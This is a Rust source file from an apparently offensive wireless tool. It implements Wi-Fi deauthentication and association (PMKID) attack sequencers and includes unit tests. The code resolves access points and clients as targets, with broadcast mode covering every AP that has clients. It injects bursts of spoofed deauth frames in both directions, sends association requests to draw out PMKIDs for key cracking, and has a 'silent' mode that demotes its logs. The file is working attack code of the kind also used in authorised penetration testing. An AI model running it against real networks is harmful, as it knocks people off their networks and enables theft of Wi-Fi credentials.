//! Deauthentication and association (PMKID) sequencers
//!
//! Both sequencers resolve a target specifier against the registry, filter
//! the resulting (AP, client) pairs through skip lists and the open network
//! policy, then transmit through the shared channel resource, tuning to each
//! target's channel first.

use std::collections::HashSet;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::barrier::WriteBarrier;
use crate::channel::{ChannelGuard, ChannelResource};
use crate::error::{Result, WirelessError};
use crate::frames::{AssociationRequest, AuthenticationFrame, DeauthFrame, DeauthReason, MacAddress};
use crate::registry::{DeviceKind, DeviceRegistry, SessionDevice};

/// Pause after every injected frame
pub const INJECT_PACING: Duration = Duration::from_millis(10);

/// Sequence numbers per deauth burst, each sent in both directions
pub const DEAUTH_BURST: u16 = 64;

/// Authentication + association attempts per access point
pub const ASSOC_ATTEMPTS: u16 = 3;

/// Log at info, or at debug when the attack runs silently
macro_rules! report {
    ($silent:expr, $($arg:tt)+) => {
        if $silent {
            tracing::debug!($($arg)+);
        } else {
            tracing::info!($($arg)+);
        }
    };
}

/// Per-attack operator policy
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct AttackPolicy {
    /// Addresses never attacked
    pub skip: Vec<MacAddress>,
    /// Suppress informational logs
    pub silent: bool,
    /// Also attack networks without encryption
    pub open: bool,
}

impl AttackPolicy {
    pub fn skips(&self, address: &MacAddress) -> bool {
        self.skip.contains(address)
    }
}

/// Which frames a sequencer sends
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    Deauth,
    Associate,
}

impl AttackKind {
    fn name(self) -> &'static str {
        match self {
            Self::Deauth => "deauth",
            Self::Associate => "association",
        }
    }
}

/// One resolved attack target
#[derive(Debug, Clone)]
pub struct Target {
    pub ap: SessionDevice,
    /// Client to deauthenticate; association targets the AP itself
    pub client: Option<MacAddress>,
}

impl Target {
    fn channel(&self) -> u8 {
        self.ap.channel
    }
}

/// Outcome of one sequencer run
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct AttackStats {
    /// Targets attacked
    pub targets: u32,
    /// Targets skipped by policy
    pub skipped: u32,
    /// Frames transmitted
    pub frames_sent: u32,
    /// Failed transmissions and channel changes
    pub errors: u32,
}

/// Resolve a target specifier into (AP, client) pairs.
///
/// The broadcast address means every AP with at least one known client, an
/// AP address means all of its clients and a client address means just that
/// client. Association targets are deduplicated per AP.
pub fn resolve_targets(
    registry: &dyn DeviceRegistry,
    kind: AttackKind,
    address: MacAddress,
) -> Result<Vec<Target>> {
    let mut targets = Vec::new();

    let pairs_for = |ap: &SessionDevice, targets: &mut Vec<Target>| {
        for client in registry.clients_of(&ap.address) {
            targets.push(Target {
                ap: ap.clone(),
                client: Some(client.address),
            });
        }
    };

    if address.is_broadcast() {
        for ap in registry.access_points() {
            pairs_for(&ap, &mut targets);
        }
    } else {
        let device = registry
            .get(&address)
            .ok_or_else(|| WirelessError::NotFound(address.to_string()))?;
        match device.kind {
            DeviceKind::AccessPoint => match kind {
                AttackKind::Deauth => pairs_for(&device, &mut targets),
                AttackKind::Associate => targets.push(Target {
                    ap: device,
                    client: None,
                }),
            },
            DeviceKind::Client { bssid } => {
                let ap = registry
                    .get(&bssid)
                    .ok_or_else(|| WirelessError::NotFound(bssid.to_string()))?;
                targets.push(Target {
                    ap,
                    client: Some(device.address),
                });
            }
        }
    }

    if kind == AttackKind::Associate {
        let mut seen = HashSet::new();
        targets.retain(|t| seen.insert(t.ap.address));
        for target in &mut targets {
            target.client = None;
        }
    }

    // Fewest channel changes
    targets.sort_by_key(|t| t.channel());
    Ok(targets)
}

/// Everything a sequencer needs from the running engine
#[derive(Clone)]
pub struct AttackContext {
    pub registry: Arc<dyn DeviceRegistry>,
    pub channel: Arc<ChannelResource>,
    pub barrier: Arc<WriteBarrier>,
    pub stopping: Arc<AtomicBool>,
    /// Our own address, used as association source
    pub station: MacAddress,
}

impl AttackContext {
    fn stopping(&self) -> bool {
        self.stopping.load(Ordering::SeqCst)
    }

    /// Run a sequencer against `address`
    pub async fn run(
        &self,
        kind: AttackKind,
        address: MacAddress,
        policy: &AttackPolicy,
    ) -> Result<AttackStats> {
        // Register before looking at the stop flag so Stop() always waits for us
        let _ticket = self.barrier.enter();
        if self.stopping() {
            return Err(WirelessError::NotRunning);
        }

        let targets = resolve_targets(self.registry.as_ref(), kind, address)?;
        let mut stats = AttackStats::default();

        for target in targets {
            if self.stopping() {
                tracing::debug!("{} interrupted by shutdown", kind.name());
                break;
            }

            let ap = &target.ap;
            if policy.skips(&ap.address) || target.client.map_or(false, |c| policy.skips(&c)) {
                tracing::debug!(bssid = %ap.address, "skipping {} target in skip list", kind.name());
                stats.skipped += 1;
                continue;
            }
            if ap.is_open() && !policy.open {
                tracing::debug!(bssid = %ap.address, "skipping open network");
                stats.skipped += 1;
                continue;
            }

            let guard = self.channel.lock().await;
            if ap.channel != 0 {
                if let Err(e) = guard.tune(ap.channel).await {
                    // Keep transmitting on whatever channel we are on
                    tracing::warn!(bssid = %ap.address, channel = ap.channel, "Error switching channel: {}", e);
                    stats.errors += 1;
                }
            }

            stats.targets += 1;
            match (kind, target.client) {
                (AttackKind::Deauth, Some(client)) => {
                    report!(
                        policy.silent,
                        "deauthing client {} from AP {} (channel:{} encryption:{})",
                        client,
                        ap.essid.as_deref().unwrap_or(""),
                        ap.channel,
                        ap.encryption
                    );
                    self.deauth_burst(&guard, ap.address, client, &mut stats).await;
                }
                (AttackKind::Associate, _) => {
                    report!(
                        policy.silent,
                        "sending association request to AP {} (channel:{} encryption:{})",
                        ap.essid.as_deref().unwrap_or(""),
                        ap.channel,
                        ap.encryption
                    );
                    self.associate(&guard, ap, &mut stats).await;
                }
                (AttackKind::Deauth, None) => {}
            }
        }

        Ok(stats)
    }

    async fn send(&self, guard: &ChannelGuard<'_>, frame: &[u8], stats: &mut AttackStats) {
        match guard.inject(frame) {
            Ok(_) => stats.frames_sent += 1,
            Err(e) => {
                tracing::warn!("Could not inject packet: {}", e);
                stats.errors += 1;
            }
        }
        tokio::time::sleep(INJECT_PACING).await;
    }

    async fn deauth_burst(
        &self,
        guard: &ChannelGuard<'_>,
        bssid: MacAddress,
        client: MacAddress,
        stats: &mut AttackStats,
    ) {
        for seq in 0..DEAUTH_BURST {
            if self.stopping() {
                return;
            }
            let to_client = DeauthFrame::from_ap(bssid, client, DeauthReason::Class3FromNonAssoc)
                .with_sequence(seq)
                .to_bytes();
            self.send(guard, &to_client, stats).await;

            let to_ap = DeauthFrame::from_client(bssid, client, DeauthReason::Class3FromNonAssoc)
                .with_sequence(seq)
                .to_bytes();
            self.send(guard, &to_ap, stats).await;
        }
    }

    async fn associate(&self, guard: &ChannelGuard<'_>, ap: &SessionDevice, stats: &mut AttackStats) {
        let essid = ap.essid.as_deref().unwrap_or("");
        for attempt in 0..ASSOC_ATTEMPTS {
            if self.stopping() {
                return;
            }
            let seq = attempt * 2;
            let auth = AuthenticationFrame::open_system(ap.address, self.station, seq).to_bytes();
            self.send(guard, &auth, stats).await;

            let assoc = AssociationRequest::new(ap.address, self.station, essid, seq + 1).to_bytes();
            self.send(guard, &assoc, stats).await;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::MemoryRegistry;

    fn mac(s: &str) -> MacAddress {
        s.parse().unwrap()
    }

    fn seed() -> MemoryRegistry {
        let registry = MemoryRegistry::new();
        let ap1 = mac("AA:00:00:00:00:01");
        let ap2 = mac("AA:00:00:00:00:02");
        let lonely = mac("AA:00:00:00:00:03");
        registry.upsert(ap1, DeviceKind::AccessPoint, &mut |d| d.channel = 11);
        registry.upsert(ap2, DeviceKind::AccessPoint, &mut |d| d.channel = 1);
        registry.upsert(lonely, DeviceKind::AccessPoint, &mut |d| d.channel = 6);
        registry.upsert(mac("BB:00:00:00:00:01"), DeviceKind::Client { bssid: ap1 }, &mut |_| {});
        registry.upsert(mac("BB:00:00:00:00:02"), DeviceKind::Client { bssid: ap1 }, &mut |_| {});
        registry.upsert(mac("BB:00:00:00:00:03"), DeviceKind::Client { bssid: ap2 }, &mut |_| {});
        registry
    }

    #[test]
    fn test_broadcast_resolves_aps_with_clients_sorted_by_channel() {
        let registry = seed();
        let targets = resolve_targets(&registry, AttackKind::Deauth, MacAddress::BROADCAST).unwrap();
        assert_eq!(targets.len(), 3);
        assert_eq!(targets[0].ap.address, mac("AA:00:00:00:00:02"));
        assert!(targets.iter().all(|t| t.ap.address != mac("AA:00:00:00:00:03")));
        assert!(targets.windows(2).all(|w| w[0].channel() <= w[1].channel()));
    }

    #[test]
    fn test_client_resolves_to_its_ap() {
        let registry = seed();
        let targets =
            resolve_targets(&registry, AttackKind::Deauth, mac("BB:00:00:00:00:03")).unwrap();
        assert_eq!(targets.len(), 1);
        assert_eq!(targets[0].ap.address, mac("AA:00:00:00:00:02"));
        assert_eq!(targets[0].client, Some(mac("BB:00:00:00:00:03")));
    }

    #[test]
    fn test_association_deduplicates_aps() {
        let registry = seed();
        let targets =
            resolve_targets(&registry, AttackKind::Associate, MacAddress::BROADCAST).unwrap();
        assert_eq!(targets.len(), 2);
        assert!(targets.iter().all(|t| t.client.is_none()));

        let single =
            resolve_targets(&registry, AttackKind::Associate, mac("AA:00:00:00:00:03")).unwrap();
        assert_eq!(single.len(), 1);
    }

    #[test]
    fn test_unknown_target() {
        let registry = seed();
        let err = resolve_targets(&registry, AttackKind::Deauth, mac("CC:CC:CC:CC:CC:CC"))
            .unwrap_err();
        assert!(matches!(err, WirelessError::NotFound(_)));
    }
}
